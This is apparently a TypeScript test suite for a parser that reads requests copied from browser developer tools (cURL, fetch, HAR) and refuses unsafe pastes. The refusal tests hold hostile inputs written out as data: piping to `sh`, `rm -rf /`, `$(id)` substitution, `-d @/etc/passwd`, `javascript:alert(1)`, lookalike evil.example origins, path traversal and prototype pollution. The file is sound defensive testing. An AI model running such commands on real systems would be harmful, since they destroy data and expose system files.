/** What developer tools copy is read as it is, and everything else is refused without being run or quoted. */
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { CAPTURE_MAX, type CaptureProblem, readCapture } from "./captured-request.ts";

const ORIGIN = "https://rd.example.com";
const PATH = "/api/settings/oidc";
const BODY = {
  callbackUrl: "https://rd.example.com/api/oidc/callback",
  items: [{ type: "azure", clientId: "x", clientSecret: 's3cr\'et $(id) `id` "q" \\', issuerUrl: "" }],
};
const headers = { accept: "application/json", "content-type": "application/json", "x-csrf-token": "canary" };

/** As Chrome and Firefox copy them. */
const bashWord = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const ansiWord = (text: string) =>
  `$'${[...text].map((one) => (/[\w .,:{}[\]/-]/.test(one) ? one : one.replace(/[\s\S]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`))).join("")}'`;
const asCurl = (body: unknown, url = ORIGIN + PATH, word = bashWord) =>
  `curl ${bashWord(url)} \\\n  -X 'PUT' \\\n  -H 'accept: application/json' \\\n  -H 'X-CSRF-Token: canary' \\\n  -b 'session=canary' \\\n  -H 'authorization: Bearer canary' \\\n  --data-raw ${word(JSON.stringify(body))} \\\n  --compressed`;
const asCmd = (body: unknown) =>
  `curl ^"${ORIGIN}${PATH}^" ^\r\n  -X ^"PUT^" ^\r\n  -H ^"content-type: application/json^" ^\r\n  --data-raw ^"${JSON.stringify(
    body,
  )
    .replaceAll('"', '^\\^"')
    .replace(/[{}$&|<>%]/g, "^$&")}^"`;
const asFetch = (body: unknown, url = ORIGIN + PATH) =>
  `fetch(${JSON.stringify(url)}, ${JSON.stringify({ headers, referrer: `${ORIGIN}/`, body: JSON.stringify(body), method: "PUT", mode: "cors", credentials: "include" }, null, 2)});`;
const harEntry = (body: unknown, method = "PUT", url = ORIGIN + PATH) => ({
  startedDateTime: "2026-11-26T00:00:00Z",
  request: {
    method,
    url,
    headers: Object.entries(headers).map(([name, value]) => ({ name, value })),
    postData: { mimeType: "application/json", text: JSON.stringify(body) },
  },
  response: { status: 200 },
});
const asHar = (body: unknown) => JSON.stringify(harEntry(body));
const asLog = (body: unknown) =>
  JSON.stringify({ log: { entries: [harEntry({}, "GET"), harEntry(body), harEntry({}, "GET")] } });

const reasonOf = (text: string, origin = ORIGIN): CaptureProblem["reason"] | "taken" => {
  const read = readCapture(text, origin);
  return read.ok ? "taken" : read.problem.reason;
};

describe("a copied request is read", () => {
  test.each([
    ["cURL for bash", asCurl(BODY)],
    ["cURL for bash with an ANSI string", asCurl(BODY, ORIGIN + PATH, ansiWord)],
    ["fetch", asFetch(BODY)],
    ["fetch with await", `await ${asFetch(BODY)}`],
    ["one HAR entry", asHar(BODY)],
    ["a HAR log in which one request writes", asLog(BODY)],
  ])("%s", (_form, text) => {
    expect(readCapture(text, ORIGIN)).toEqual({
      ok: true,
      value: { method: "PUT", path: PATH, headerNames: ["x-csrf-token"], body: BODY },
    });
  });

  test("cURL for Windows", () => {
    const body = { clientSecret: "a&b|c", issuer: "x" };
    expect(readCapture(asCmd(body), ORIGIN)).toMatchObject({ ok: true, value: { method: "PUT", body } });
  });

  test("cURL that names no method posts", () => {
    expect(readCapture(`curl '${ORIGIN}${PATH}' --data-raw '{}'`, ORIGIN)).toMatchObject({
      ok: true,
      value: { method: "POST" },
    });
  });

  test("whatever the body holds, in every form", () => {
    const body = fc.dictionary(
      fc.string({ minLength: 1 }).filter((name) => name !== "__proto__"),
      fc.jsonValue({ maxDepth: 4 }),
    );
    fc.assert(
      fc.property(body, fc.constantFrom(asCurl, asFetch, asHar, asLog), (given, write) => {
        // As it travels: JSON keeps no `-0`, and a nested `__proto__` is dropped.
        const sent: unknown = JSON.parse(JSON.stringify(given), (key, value: unknown) =>
          key === "__proto__" ? undefined : value,
        );
        const read = readCapture(write(given), ORIGIN);
        expect(read).toMatchObject({ ok: true });
        if (read.ok) expect(JSON.stringify(read.value.body)).toBe(JSON.stringify(sent));
      }),
    );
  });
});

describe("a hostile or mistaken paste is refused", () => {
  test.each<[string, string, CaptureProblem["reason"]]>([
    ["nothing", "  ", "empty"],
    ["a giant", `${asFetch(BODY)}${" ".repeat(CAPTURE_MAX)}`, "too-long"],
    ["prose", "please set the settings", "not-understood"],
    ["another origin", asFetch(BODY, "https://evil.example/api/settings/oidc"), "other-origin"],
    [
      "an origin that begins alike",
      asCurl(BODY, "https://rd.example.com.evil.example/api/x"),
      "other-origin",
    ],
    ["an origin with a user name", asCurl(BODY, "https://rd.example.com@evil.example/api/x"), "other-origin"],
    ["plain http", asFetch(BODY, "http://rd.example.com/api/x"), "other-origin"],
    ["no address", asFetch(BODY, "javascript:alert(1)"), "other-origin"],
    ["a read", `curl '${ORIGIN}${PATH}'`, "other-method"],
    ["a delete", `curl -X DELETE '${ORIGIN}${PATH}'`, "other-method"],
    ["a path outside of the API", asFetch(BODY, `${ORIGIN}/admin/x`), "other-path"],
    ["a path that climbs", asFetch(BODY, `${ORIGIN}/api/../admin`), "other-path"],
    ["an encoded path", asFetch(BODY, `${ORIGIN}/api/%2e%2e/x`), "other-path"],
    ["a query", asFetch(BODY, `${ORIGIN}/api/x?y=1`), "other-path"],
    ["a list as body", asFetch([1]), "body-not-json"],
    ["no body", `curl -X PUT '${ORIGIN}${PATH}'`, "body-not-json"],
    ["a body from a file", `curl '${ORIGIN}${PATH}' -d @/etc/passwd`, "body-not-json"],
    ["a script behind fetch", `${asFetch(BODY)} alert(1)`, "more-than-a-request"],
    ["an expression in fetch", `fetch(location.origin + "/api/x", {"method":"PUT"})`, "more-than-a-request"],
    ["code in place of options", `fetch("${ORIGIN}${PATH}", (()=>{alert(1)})())`, "more-than-a-request"],
    ["a pipe", `${asCurl(BODY)} | sh`, "more-than-a-request"],
    ["a second command", `${asCurl(BODY)}; rm -rf /`, "more-than-a-request"],
    ["a substitution", `curl "${ORIGIN}$(id)"`, "more-than-a-request"],
    ["a variable", `curl "${ORIGIN}/api/$HOME" -d '{}'`, "more-than-a-request"],
    ["a second address", `curl '${ORIGIN}${PATH}' 'https://evil.example' -d '{}'`, "more-than-a-request"],
    ["an output file", `curl -o /tmp/x '${ORIGIN}${PATH}' -d '{}'`, "not-understood"],
    ["a configuration file", `curl -K x '${ORIGIN}${PATH}'`, "not-understood"],
    [
      "a log in which two requests write",
      JSON.stringify({ log: { entries: [harEntry(BODY), harEntry(BODY)] } }),
      "several-requests",
    ],
  ])("%s", (_what, text, reason) => {
    expect(reasonOf(text)).toBe(reason);
  });

  test("a body nested beyond all measure", () => {
    let deep: object = {};
    for (let level = 0; level < 40; level += 1) deep = { deep };
    expect(reasonOf(asFetch(deep))).toBe("body-not-json");
  });

  test("nothing reaches into prototypes", () => {
    const read = readCapture(`curl '${ORIGIN}${PATH}' -d '{"__proto__":{"polluted":1},"a":1}'`, ORIGIN);
    expect(read).toMatchObject({ ok: true, value: { body: { a: 1 } } });
    expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
  });

  test("any text whatever ends in a reason or in a request to this origin, quickly", () => {
    const pieces = fc.constantFrom(
      "curl ",
      "fetch(",
      "'",
      '"',
      "$'",
      "\\",
      "^",
      "\n",
      " -H ",
      " -d ",
      "{",
      "}",
      "|",
      ORIGIN,
      PATH,
      "-X PUT ",
      "\\u",
      "$(",
    );
    const text = fc.oneof(
      fc.string(),
      fc.array(fc.oneof(pieces, fc.string())).map((all) => all.join("")),
    );
    fc.assert(
      fc.property(text, (any) => {
        const read = readCapture(any, ORIGIN);
        if (read.ok) expect(read.value.path.startsWith("/api/")).toBe(true);
        else expect(typeof read.problem.reason).toBe("string");
      }),
      { numRuns: 1000 },
    );
  });

  test("another origin is refused whatever it is", () => {
    fc.assert(
      fc.property(fc.webUrl({ withQueryParameters: true }), (url) => {
        expect(reasonOf(asFetch(BODY, url))).toBe("other-origin");
      }),
      { numRuns: 30 },
    );
  });

  test("no refusal quotes what a body, a header or a cookie holds", () => {
    const canary = "canary-8Q~0123456789";
    const body = { clientSecret: canary };
    for (const text of [
      asFetch(body, "https://evil.example/api/x"),
      asCurl(body, `${ORIGIN}/admin`),
      `${asCurl(body)} | sh`,
      asFetch([canary]),
    ])
      expect(JSON.stringify(readCapture(text, ORIGIN))).not.toContain("canary");
  });
});
